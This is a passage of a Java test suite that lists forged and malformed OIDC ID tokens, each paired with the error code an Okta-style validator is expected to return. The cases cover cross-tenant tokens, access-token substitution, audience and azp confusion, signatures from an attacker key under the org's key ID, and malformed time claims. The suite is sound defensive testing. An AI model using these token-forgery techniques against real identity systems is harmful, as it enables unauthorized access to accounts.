        add("only white space", MISSING_TOKEN, a -> " \t\n ");
        add("only an em space (U+2003)", MISSING_TOKEN, a -> "\u2003");
        add("only a no-break space (U+00A0)", MALFORMED_TOKEN, a -> "\u00a0");
    }

    private static String insert(String text, int at, String inserted) {
        return text.substring(0, at) + inserted + text.substring(at);
    }

    private static byte[] bytes(String before, byte[] middle, String after) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(before.getBytes(StandardCharsets.UTF_8));
        out.writeBytes(middle);
        out.writeBytes(after.getBytes(StandardCharsets.UTF_8));
        return out.toByteArray();
    }

    /** The victim's claims as UTF-8, with {@code invalid} bytes inserted inside the string {@code value}. */
    private static byte[] withInvalidBytesAfter(Arsenal a, String value, byte[] invalid) {
        String json = a.claimsJson();
        String literal = Jose.quoted(value);
        if (json.indexOf(literal) < 0) {
            throw new IllegalStateException(literal + " is not in " + json);
        }
        int end = json.indexOf(literal) + literal.length() - 1;
        return bytes(json.substring(0, end), invalid, json.substring(end));
    }

    // --- other tenants and orgs ----------------------------------------------------------------------------------

    private void otherTenants() {
        group("Tokens of another tenant or org");
        add("genuine token of another tenant's org, presented at this tenant", INVALID_ISSUER,
                a -> IdTokenMinter.of(a.otherOrg, OTHER_TENANT_CLIENT_ID, Arsenal.ISSUED_AT).sign());
        add("genuine token of this tenant, presented at another tenant", OTHER_TENANT, INVALID_ISSUER,
                Arsenal::genuine);
        add("another org's key, this org's iss and aud, the other org's kid", UNKNOWN_SIGNING_KEY,
                a -> IdTokenMinter.of(a.otherOrg, CLIENT_ID, Arsenal.ISSUED_AT).claim("iss", a.org.issuer()).sign());
        add("another org's key, this org's iss and aud, this org's kid", INVALID_SIGNATURE,
                a -> IdTokenMinter.of(a.otherOrg, CLIENT_ID, Arsenal.ISSUED_AT).claim("iss", a.org.issuer())
                        .keyId(a.orgKid()).sign());
        add("genuine token of the same org for another app", INVALID_AUDIENCE,
                a -> IdTokenMinter.of(a.org, OTHER_CLIENT_ID, Arsenal.ISSUED_AT).sign());
    }

    // --- access tokens -------------------------------------------------------------------------------------------

    private void accessTokens() {
        group("Access tokens in place of the ID token");
        add("Okta org access token (aud = issuer, cid, uid, scp, jti AT., unpublished kid)", INVALID_AUDIENCE,
                a -> accessToken(a).claim("aud", a.org.issuer()).sign());
        add("Okta org access token with aud as an array [issuer]", INVALID_AUDIENCE,
                a -> accessToken(a).claim("aud", List.of(a.org.issuer())).sign());
        add("access-token claims with aud = client ID, unpublished kid", UNKNOWN_SIGNING_KEY,
                a -> accessToken(a).sign());
        for (String typ : List.of("at+jwt", "application/at+jwt", "AT+JWT")) {
            add("typ " + typ + ", signed with the org's key", INVALID_AUDIENCE, a -> a.minter().type(typ).sign());
        }
        add("typ JOSE, signed with the org's key", MALFORMED_TOKEN, a -> a.minter().type("JOSE").sign());
        add("typ as a number, signed with the org's key", MALFORMED_TOKEN,
                a -> Jose.rs256(a.orgKey(), "{\"alg\":\"RS256\",\"kid\":" + Jose.quoted(a.orgKid()) + ",\"typ\":1}",
                        a.claimsJson()));
    }

    private static IdTokenMinter accessToken(Arsenal a) {
        return a.minter()
                .signedWith(a.org.newSigningKey())
                .claim("cid", CLIENT_ID)
                .claim("uid", IdTokenMinter.USER_ID)
                .claim("scp", List.of("openid", "profile", "email"))
                .claim("jti", "AT.Kq8bxqXbT0dpBhGd0z5nmAZ1o6pWs3Zy")
                .without("amr").without("idp").without("at_hash");
    }

    // --- azp -----------------------------------------------------------------------------------------------------

    private void authorizedParty() {
        group("Authorized party (azp) with several audiences (signed with the org's key)");
        add("aud [client ID, other app], azp the other app", INVALID_AUDIENCE,
                a -> a.minter().claim("aud", List.of(CLIENT_ID, OTHER_CLIENT_ID)).claim("azp", OTHER_CLIENT_ID).sign());
        add("aud [two other apps], azp the client ID", INVALID_AUDIENCE,
                a -> a.minter().claim("aud", List.of(OTHER_CLIENT_ID, "0oaTHIRD")).claim("azp", CLIENT_ID).sign());
        add("aud [client ID, other app], azp a number", INVALID_AUDIENCE,
                a -> a.minter().claim("aud", List.of(CLIENT_ID, OTHER_CLIENT_ID)).claim("azp", 1).sign());
        add("aud the client ID, azp another app", INVALID_AUDIENCE,
                a -> a.minter().claim("azp", OTHER_CLIENT_ID).sign());
    }

    // --- time ----------------------------------------------------------------------------------------------------

    private void times() {
        group("Time claims");
        add("expired 1 s beyond the 60 s clock skew", TOKEN_EXPIRED,
                a -> a.minter().issuedAt(T0.minusSeconds(3600)).expiresAt(T0.minusSeconds(61)).sign());
        add("expired exactly at the end of the clock skew", TOKEN_EXPIRED,
                a -> a.minter().issuedAt(T0.minusSeconds(3600)).expiresAt(T0.minusSeconds(60)).sign());
        add("expired, forged", INVALID_SIGNATURE,
                a -> a.minter().expiresAt(T0.minusSeconds(3600)).signedWith(a.attackerKey).keyId(a.orgKid()).sign());
        add("expired and without sub, signed with the org's key", MISSING_SUBJECT,
                a -> a.minter().expiresAt(T0.minusSeconds(3600)).without("sub").sign());
        add("issued 61 s after the event", TOKEN_NOT_YET_VALID,
                a -> a.minter().issuedAt(T0.plusSeconds(61)).expiresAt(T0.plusSeconds(3600)).sign());
        add("nbf 61 s after the event", TOKEN_NOT_YET_VALID,
                a -> a.minter().claim("nbf", T0.plusSeconds(61).getEpochSecond()).sign());
        Map<String, String> badExp = new LinkedHashMap<>();
        badExp.put("exp as a string", "\"" + T0.plusSeconds(3600).getEpochSecond() + "\"");
        badExp.put("exp far in the future (1e16)", "1e16");
        badExp.put("exp negative", "-1");
        badExp.put("exp 1e400 (not a finite number)", "1e400");
        badExp.put("exp 99999999999999999999999", "99999999999999999999999");
        badExp.put("exp true", "true");
        badExp.put("exp null", "null");
        badExp.forEach((name, exp) -> add(name + ", signed with the org's key", MALFORMED_TOKEN,
                a -> a.orgSigned(a.claimsWithRaw("exp", exp))));
        for (String claim : List.of("iat", "nbf", "auth_time")) {
            add(claim + " as a string, signed with the org's key", MALFORMED_TOKEN,
                    a -> a.orgSigned(a.claimsWithRaw(claim, "\"" + T0.getEpochSecond() + "\"")));
        }
    }
}
